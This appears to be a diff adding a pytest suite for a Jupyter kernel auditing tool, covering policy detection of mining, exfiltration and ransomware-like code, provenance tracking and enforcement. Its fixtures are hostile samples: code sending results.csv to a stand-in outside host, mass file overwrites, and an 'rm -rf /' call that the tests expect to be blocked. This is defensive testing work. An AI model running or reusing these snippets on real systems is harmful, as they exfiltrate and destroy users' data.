@@ -1,0 +1,251 @@
+"""Tests for the kernel auditing tool: features, policies, provenance, auditor."""
+
+import pytest
+
+from repro.audit import (
+    KernelAuditor,
+    Policy,
+    PolicyAction,
+    PolicyEngine,
+    ProvenanceGraph,
+    default_policies,
+    extract_features,
+)
+from repro.kernel import KernelRuntime, KernelWorld
+from repro.messaging import Session
+from repro.taxonomy.oscrp import Avenue
+
+MINER_CODE = (
+    "import hashlib\n"
+    "nonce = 0\n"
+    "for i in range(1000):\n"
+    "    h = hashlib.sha256(str(nonce))\n"
+    "    nonce += 1\n"
+)
+
+EXFIL_CODE = (
+    "import socket\n"
+    "data = open('results.csv').read()\n"
+    "s = socket.socket()\n"
+    "s.connect(('198.51.100.9', 443))\n"
+    "s.send(data)\n"
+)
+
+RANSOM_CODE = "\n".join(
+    f"f{i} = open('file{i}.dat', 'w')\nf{i}.write('x')\nf{i}.close()" for i in range(6)
+)
+
+
+class TestFeatureExtraction:
+    def test_imports(self):
+        f = extract_features("import os\nimport socket\nfrom hashlib import sha256")
+        assert f.imports == {"os", "socket", "hashlib"}
+
+    def test_sensitive_calls(self):
+        f = extract_features("import os\nos.system('id')\nos.remove('x')")
+        assert f.sensitive_calls["proc"] == 1
+        assert f.sensitive_calls["file-delete"] == 1
+
+    def test_open_write_detection(self):
+        f = extract_features("a = open('x', 'w')\nb = open('y')\nc = open('z', 'ab')")
+        assert f.open_write_count == 2
+        assert f.sensitive_calls["file-open"] == 3
+
+    def test_miner_shape(self):
+        f = extract_features(MINER_CODE)
+        assert f.has_loop
+        assert f.hash_calls_in_loop == 1
+        assert f.miner_shape_score() >= 0.5
+
+    def test_hash_outside_loop_not_miner(self):
+        f = extract_features("import hashlib\nh = hashlib.sha256(b'x')")
+        assert f.hash_calls_in_loop == 0
+        assert f.miner_shape_score() == 0.0
+
+    def test_nested_loop_depth(self):
+        f = extract_features("for i in range(2):\n    while True:\n        pass")
+        assert f.loop_depth_max == 2
+
+    def test_obfuscation_score(self):
+        import base64
+        import os
+
+        blob = base64.b64encode(bytes(range(256)) * 20).decode()
+        f = extract_features(f"payload = '{blob}'")
+        assert f.obfuscation_score() > 0.4
+        benign = extract_features("msg = 'hello world, this is a plain string'")
+        assert benign.obfuscation_score() == 0.0
+
+    def test_syntax_error_flag(self):
+        assert extract_features("def broken(:").syntax_error
+
+    def test_node_count_scales(self):
+        small = extract_features("x = 1")
+        large = extract_features("\n".join(f"x{i} = {i}" for i in range(100)))
+        assert large.node_count > 10 * small.node_count
+
+
+class TestPolicies:
+    def test_miner_policy_alerts(self):
+        engine = PolicyEngine()
+        verdicts = engine.evaluate(extract_features(MINER_CODE))
+        assert any(v.policy == "miner-shape" for v in verdicts)
+
+    def test_exfil_shape_policy(self):
+        verdicts = PolicyEngine().evaluate(extract_features(EXFIL_CODE))
+        assert any(v.policy == "net-plus-file-read" for v in verdicts)
+
+    def test_mass_overwrite_policy(self):
+        verdicts = PolicyEngine().evaluate(extract_features(RANSOM_CODE))
+        assert any(v.policy == "mass-file-overwrite" for v in verdicts)
+
+    def test_benign_code_clean(self):
+        benign = "import math\nresults = [math.sqrt(x) for x in range(100)]\nprint(sum(results))"
+        assert PolicyEngine().evaluate(extract_features(benign)) == []
+
+    def test_enforce_mode_upgrades_action(self):
+        enforcing = default_policies(enforce=True)
+        proc = next(p for p in enforcing if p.name == "proc-spawn")
+        assert proc.action == PolicyAction.DENY
+        alerting = default_policies(enforce=False)
+        assert next(p for p in alerting if p.name == "proc-spawn").action == PolicyAction.ALERT
+
+    def test_custom_policy(self):
+        engine = PolicyEngine([])
+        engine.add(Policy("no-torch", "torch import banned", lambda f: "torch" in f.imports))
+        assert engine.evaluate(extract_features("import torch"))
+        assert not engine.evaluate(extract_features("import math"))
+
+    def test_hit_accounting(self):
+        engine = PolicyEngine()
+        engine.evaluate(extract_features(MINER_CODE))
+        engine.evaluate(extract_features(MINER_CODE))
+        assert engine.hits["miner-shape"] == 2
+
+
+class TestProvenance:
+    def test_read_write_lineage(self):
+        g = ProvenanceGraph()
+        g.add_execution(1, user="alice", ts=0.0)
+        g.record_read(1, "data.csv", 1.0, 100)
+        g.record_write(1, "out.csv", 2.0, 50)
+        assert g.executions_touching("data.csv") == ["exec:1"]
+        assert g.executions_touching("out.csv") == ["exec:1"]
+        assert g.users_of("exec:1") == ["alice"]
+
+    def test_exfil_lineage(self):
+        g = ProvenanceGraph()
+        g.add_execution(1, user="mallory", ts=0.0)
+        g.record_read(1, "weights.bin", 1.0, 10_000)
+        g.record_connect(1, "198.51.100.9", 443, 2.0)
+        g.record_send(1, "198.51.100.9", 443, 3.0, 10_000)
+        assert g.exfil_lineage("198.51.100.9", 443) == ["weights.bin"]
+        assert g.bytes_sent_to("198.51.100.9", 443) == 10_000
+        assert g.external_contacts() == [("198.51.100.9", 443)]
+
+    def test_file_history_ordered(self):
+        g = ProvenanceGraph()
+        g.add_execution(1, user="a", ts=0.0)
+        g.add_execution(2, user="b", ts=5.0)
+        g.record_write(1, "nb.ipynb", 1.0, 10)
+        g.record_write(2, "nb.ipynb", 6.0, 10)
+        hist = g.file_history("nb.ipynb")
+        assert [h["ts"] for h in hist] == [1.0, 6.0]
+
+    def test_rename_tracked(self):
+        g = ProvenanceGraph()
+        g.add_execution(1, user="m", ts=0.0)
+        g.record_rename(1, "a.ipynb", "a.ipynb.locked", 1.0)
+        assert "exec:1" in g.executions_touching("a.ipynb.locked")
+
+    def test_missing_nodes_safe(self):
+        g = ProvenanceGraph()
+        assert g.executions_touching("ghost") == []
+        assert g.exfil_lineage("1.2.3.4", 80) == []
+        assert g.bytes_sent_to("1.2.3.4", 80) == 0
+        assert g.file_history("ghost") == []
+
+    def test_node_counts(self):
+        g = ProvenanceGraph()
+        g.add_execution(1, user="a", ts=0.0)
+        g.record_write(1, "f", 1.0)
+        counts = g.node_counts()
+        assert counts == {"execution": 1, "user": 1, "file": 1}
+
+
+def make_audited_kernel(*, enforce=False, monitor=None):
+    world = KernelWorld()
+    world.fs.write("home/results.csv", b"a,b\n1,2\n" * 100)
+    kernel = KernelRuntime(world, key=b"k")
+    auditor = KernelAuditor(kernel, enforce=enforce, monitor=monitor)
+    client = Session(b"k")
+    return kernel, auditor, client
+
+
+class TestKernelAuditor:
+    def test_benign_cell_recorded_clean(self):
+        kernel, auditor, client = make_audited_kernel()
+        kernel.handle(client.execute_request("x = sum(range(10))"))
+        assert len(auditor.records) == 1
+        rec = auditor.records[0]
+        assert rec.verdicts == [] and not rec.denied
+        assert rec.status == "ok"
+        assert rec.resources["cpu_seconds"] > 0
+
+    def test_miner_cell_alerts(self):
+        kernel, auditor, client = make_audited_kernel()
+        kernel.handle(client.execute_request(MINER_CODE))
+        assert "POLICY_MINER_SHAPE" in auditor.notice_names()
+
+    def test_enforce_mode_denies_proc_spawn(self):
+        kernel, auditor, client = make_audited_kernel(enforce=True)
+        msgs = kernel.handle(client.execute_request("import os\nos.system('rm -rf /')"))
+        assert msgs[0].content["status"] == "error"
+        assert msgs[0].content["ename"] == "SecurityViolation"
+        assert auditor.denied_count() == 1
+
+    def test_alert_mode_allows_execution(self):
+        kernel, auditor, client = make_audited_kernel(enforce=False)
+        msgs = kernel.handle(client.execute_request(RANSOM_CODE))
+        assert msgs[0].content["status"] == "ok"  # ran, but alerted
+        assert "POLICY_MASS_FILE_OVERWRITE" in auditor.notice_names()
+
+    def test_provenance_built_from_events(self):
+        kernel, auditor, client = make_audited_kernel()
+        kernel.handle(client.execute_request("text = open('results.csv').read()"))
+        kernel.handle(client.execute_request(
+            "f = open('copy.csv', 'w')\nf.write(text)\nf.close()"))
+        assert auditor.provenance.executions_touching("home/results.csv") == ["exec:1"]
+        assert auditor.provenance.executions_touching("home/copy.csv") == ["exec:2"]
+
+    def test_cpu_abuse_notice(self):
+        kernel, auditor, client = make_audited_kernel()
+        kernel.handle(client.execute_request(
+            "total = 0\nfor i in range(600000):\n    total += 1"))
+        # 600k iterations ~ several million ops >= 2 CPU-seconds.
+        assert "CPU_ABUSE" in auditor.notice_names()
+        notice = next(n for n in auditor.notices if n.name == "CPU_ABUSE")
+        assert notice.avenue == Avenue.CRYPTOMINING
+
+    def test_monitor_cross_feed(self):
+        from repro.monitor import JupyterNetworkMonitor
+
+        monitor = JupyterNetworkMonitor()
+        kernel, auditor, client = make_audited_kernel(monitor=monitor)
+        # Encrypt-like write burst via kernel code (in-kernel ransomware).
+        code = (
+            "import random\n"
+            + "\n".join(
+                f"f{i} = open('v{i}.locked', 'wb')\nf{i}.write(random.randbytes(300))\nf{i}.close()"
+                for i in range(6)
+            )
+        )
+        kernel.handle(client.execute_request(code))
+        assert "RANSOMWARE_ENTROPY_BURST" in monitor.logs.notice_names()
+
+    def test_summary_shape(self):
+        kernel, auditor, client = make_audited_kernel()
+        kernel.handle(client.execute_request("x = 1"))
+        s = auditor.summary()
+        assert s["executions"] == 1
+        assert s["provenance_nodes"]["execution"] == 1
